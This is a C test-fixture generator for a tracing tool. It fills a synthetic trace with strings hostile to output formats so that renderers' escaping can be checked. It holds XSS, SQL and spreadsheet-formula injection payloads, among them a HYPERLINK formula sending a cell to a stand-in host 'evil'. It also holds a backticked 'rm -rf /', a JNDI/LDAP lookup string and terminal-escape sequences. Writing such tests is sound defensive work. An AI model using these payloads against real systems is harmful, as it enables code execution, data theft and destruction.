// SPDX-License-Identifier: MIT
/*
 * Mode "names": a valid trace whose every string (hostname, FILE_INFO keys
 * and values, syscall names, comm, exe, cmdline, paths, peers, stack symbols,
 * objects, build ids and mappings) is hostile to some output format. Every
 * planted string is listed in the manifest; each one is a process comm, so
 * any output listing processes must show all.
 */
#include "tests/hostile/hostile.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define S(lit) { lit, sizeof(lit) - 1 }

static const struct ebt_str fixed[] = {
	S("</script><script>alert(1)</script>"),
	S("\"><img src=x onerror=alert(2)>"),
	S("'); DROP TABLE events;--"),
	S("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
	S("+1+cmd|' /C calc'!A0"),
	S("-2+3*cmd|' /C calc'!A0"),
	S("@SUM(1+1)*cmd|' /C calc'!A0"),
	S("\tstarts with tab"),
	S("a|b||c `rm -rf /` **bold** [x](javascript:alert(3)) <b>html</b> _u_ #h"),
	S("q\"uo'te\\back\\\\slash\\\"end\\"),
	S("line1\nFORGED: injected line\r\nFORGED2\rFORGED3"),
	S("\x1b[31mRED\x1b[0m\x1b]0;title\x07\x08\x7f bell"),
	S("c1 \xc2\x9b" "2J csi, bidi \xe2\x80\xae" "evil\xe2\x80\xac" " lsep \xe2\x80\xa8" "x"),
	S("bad utf8 \xff\xfe \xc0\xaf \xed\xa0\x80 \xf8\x88\x80\x80\x80 trunc \xe2\x82"),
	S("nul\0after nul\0tail"),
	S("x\",le=\"+Inf\"} 1\n# HELP forged\\"),
	S("na\xc3\xafve \xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e \xf0\x9f\x8e\x89 ok"),
	S("${jndi:ldap://x/a} %s%n%x %%"),
	S("\x01\x02\x03\x04\x05\x06\x0b\x0c\x0e\x0f\x10\x1f"),
	S("  leading and trailing spaces  "),
	S(",comma,\"quoted,cell\",\r\n"),
};
#define NFIXED (sizeof(fixed) / sizeof(fixed[0]))
#define NLONG 3
#define NSTR (NFIXED + NLONG)

static char *longs[NLONG];
static uint32_t long_len[NLONG];

/* Long strings, built once: up to EBT_MAX_STRING bytes. */
static int make_longs(void)
{
	static const char pat[] = "<script>alert(9)</script>\"'\\\n=|`";
	static const char e_acute[] = "\xc3\xa9";

	if (longs[0])
		return 0;
	for (int i = 0; i < NLONG; i++) {
		longs[i] = malloc(EBT_MAX_STRING);
		if (!longs[i])
			return -ENOMEM;
	}
	long_len[0] = EBT_MAX_STRING;
	for (uint32_t i = 0; i < long_len[0]; i++)
		longs[0][i] = pat[i % (sizeof(pat) - 1)];
	/* "a" then U+00E9: any even byte cap splits a character */
	long_len[1] = EBT_MAX_STRING - 1;
	longs[1][0] = 'a';
	for (uint32_t i = 1; i < long_len[1]; i++)
		longs[1][i] = e_acute[(i - 1) % 2];
	long_len[2] = 1000;
	for (uint32_t i = 0; i < long_len[2]; i++)
		longs[2][i] = (char)('A' + i % 26);
	memcpy(longs[2], "LONG1000", 8);
	return 0;
}

size_t hostile_nstrings(void)
{
	return NSTR;
}

struct ebt_str hostile_string(size_t i)
{
	i %= NSTR;
	if (i < NFIXED)
		return fixed[i];
	if (make_longs())
		return ebt_str_c("");
	return (struct ebt_str){ longs[i - NFIXED], long_len[i - NFIXED] };
}

void hostile_strings_free(void)
{
	for (int i = 0; i < NLONG; i++) {
		free(longs[i]);
		longs[i] = NULL;
	}
}

int hostile_manifest(const char *path)
{
	FILE *f = fopen(path, "w");
	int err = 0;

	if (!f)
		return -errno;
	fprintf(f, "{\"strings\": [\n");
	for (size_t i = 0; i < NSTR; i++) {
		struct ebt_str s = hostile_string(i);

		fprintf(f, "  {\"id\": %zu, \"hex\": \"", i);
		for (uint32_t k = 0; k < s.len; k++)
			fprintf(f, "%02x", (unsigned char)s.p[k]);
		fprintf(f, "\"}%s\n", i + 1 < NSTR ? "," : "");
	}
	fprintf(f, "]}\n");
	if (ferror(f))
		err = -EIO;
	if (fclose(f) && !err)
		err = -errno;
	return err;
}

/* A peer "S:80" built from string i, capped to EBT_MAX_STRING. */
static struct ebt_str peer_of(size_t i, char *buf)
{
	struct ebt_str s = hostile_string(i);
	uint32_t n = s.len > EBT_MAX_STRING - 3 ? EBT_MAX_STRING - 3 : s.len;

	memcpy(buf, s.p, n);
	memcpy(buf + n, ":80", 3);
	return (struct ebt_str){ buf, n + 3 };
}

static void names_meta(struct hw *h)
{
	struct ebt_record r = { .kind = EBT_REC_FILE_INFO };
	static const char *const keys[] = {
		"hostname", "kernel_release", "kernel_version", "os_release",
		"recorder_version", "recorder_args", "targets", "boot_id",
	};

	for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
		r.kv.key = ebt_str_c(keys[i]);
		r.kv.value = hostile_string(i);
		hw_rec(h, &r);
	}
	for (size_t i = 0; i < NSTR; i++) {	/* unknown keys, hostile both sides */
		r.kv.key = hostile_string(i);
		r.kv.value = hostile_string(i + 1);
		hw_rec(h, &r);
	}
	/* hostile syscall names for the numbers 500 + i */
	for (size_t i = 0; i < NSTR; i++) {
		r = (struct ebt_record){ .kind = EBT_REC_SYSCALL };
		r.sys.nr = 500 + (uint32_t)i;
		r.sys.abi = ebt_str_c("x86_64");
		r.sys.name = hostile_string(i);
		hw_rec(h, &r);
	}
}

/* Stack i + 1 of process pid (depth 3, or 127 for i == 0), each frame with
 * a hostile symbol, object and build id, and a hostile executable mapping. */
static void names_stack(struct hw *h, size_t i, uint32_t pid)
{
	static uint64_t ips[EBT_MAX_STACK_DEPTH];
	struct ebt_record r = { .kind = EBT_REC_STACK };

	for (uint32_t k = 0; k < EBT_MAX_STACK_DEPTH; k++)
		ips[k] = 0x400000 + 0x100 * (uint64_t)k;
	r.stack = (struct ebt_stack){ (uint32_t)i + 1, pid, i ? 3 : EBT_MAX_STACK_DEPTH, ips };
	hw_rec(h, &r);
	for (uint32_t k = 0; k < 3; k++) {
		r = (struct ebt_record){ .kind = EBT_REC_SYMBOL };
		r.sym = (struct ebt_symbol){ .pid = pid, .addr = ips[k], .offset = 0x10,
					     .name = hostile_string(i + 7 + k),
					     .object = hostile_string(i + 8),
					     .build_id = hostile_string(i + 9) };
		hw_rec(h, &r);
	}
	r = (struct ebt_record){ .kind = EBT_REC_MAP };
	r.map = (struct ebt_map){ .pid = pid, .start = 0x400000, .end = 0x500000,
				  .path = hostile_string(i + 10),
				  .build_id = hostile_string(i + 11) };
	hw_rec(h, &r);
}

static int names_tasks(struct hw *h, char *buf)
{
	for (size_t i = 0; i < NSTR; i++) {
		uint32_t pid = 1000 + (uint32_t)i;
		struct ebt_str a = hostile_string(i + 2), b = hostile_string(i + 3);
		uint32_t na = a.len > EBT_MAX_STRING / 2 ? EBT_MAX_STRING / 2 : a.len;
		uint32_t nb = b.len > EBT_MAX_STRING / 2 - 1 ? EBT_MAX_STRING / 2 - 1 : b.len;

		/* cmdline: two argv entries joined by a NUL */
		memcpy(buf, a.p, na);
		buf[na] = '\0';
		memcpy(buf + na + 1, b.p, nb);
		hw_task(h, EBT_TASK_SNAPSHOT, pid, pid, hostile_string(i),
			hostile_string(i + 1), (struct ebt_str){ buf, na + 1 + nb });
		hw_task(h, EBT_TASK_THREAD, pid, pid + 10000, hostile_string(i + 4),
			(struct ebt_str){ 0 }, (struct ebt_str){ 0 });
		hw_fd(h, EBT_FD_SOCKET, pid, 3, ebt_str_c("socket:[1234]"), peer_of(i, buf));
		hw_fd(h, EBT_FD_FILE, pid, 4, hostile_string(i + 5), (struct ebt_str){ 0 });
		hw_fd(h, EBT_FD_SOCKET, pid, 5, ebt_str_c("socket:[99]"), hostile_string(i + 6));
		names_stack(h, i, pid);
	}
	return h->err;
}

/* A request on fd 3 of pid: read, file work, the hostile syscall, write. */
static uint64_t names_request(struct hw *h, uint64_t t, uint32_t pid, uint32_t tid,
			      size_t i, uint32_t k)
{
	struct ebt_event ev;
	uint64_t slow = 1000000 + 1000 * (uint64_t)i + k;

	ev = hev(t, 20000, 0, 3, pid, tid, NR_EPOLL_WAIT);
	hw_ev(h, &ev);
	t += 21000;
	ev = hev(t, 3000, 100, 3, pid, tid, NR_READ);
	hw_ev(h, &ev);
	t += 4000;
	ev = hev(t, 5000, 512, 4, pid, tid, NR_READ);
	hw_ev(h, &ev);
	t += 6000;
	ev = hev(t, slow, k % 3 ? 0 : -13, 4, pid, tid, 500 + (uint32_t)i);
	ev.stack_id = (uint32_t)i + 1;
	hw_ev(h, &ev);
	t += slow + 1000;
	ev = hev(t, 7000, 100, 5, pid, tid, NR_SENDTO);
	hw_ev(h, &ev);
	t += 8000;
	ev = hev(t, 4000, 200, 3, pid, tid, NR_WRITE);
	hw_ev(h, &ev);
	return t + 5000;
}

int gen_names(const char *out, const char *manifest)
{
	uint64_t t = 1000000000ull;
	struct hw h;
	char *buf = malloc(EBT_MAX_STRING + 8);
	int err = buf ? make_longs() : -ENOMEM;

	if (!err)
		err = hw_open(&h, out, 4096);
	if (err) {
		free(buf);
		return err;
	}
	hw_std_meta(&h, t);
	names_meta(&h);
	names_tasks(&h, buf);
	for (uint32_t k = 0; k < 8; k++) {
		for (size_t i = 0; i < NSTR; i++) {
			uint32_t pid = 1000 + (uint32_t)i;

			t = names_request(&h, t, pid, k % 2 ? pid + 10000 : pid, i, k);
		}
		if (k == 3) {	/* comm changes mid-trace */
			hw_flush(&h);
			for (size_t i = 0; i < NSTR; i++)
				hw_task(&h, EBT_TASK_RENAME, 1000 + (uint32_t)i,
					1000 + (uint32_t)i, hostile_string(i),
					(struct ebt_str){ 0 }, (struct ebt_str){ 0 });
		}
	}
	err = hw_close(&h);
	free(buf);
	if (!err && manifest)
		err = hostile_manifest(manifest);
	return err;
}
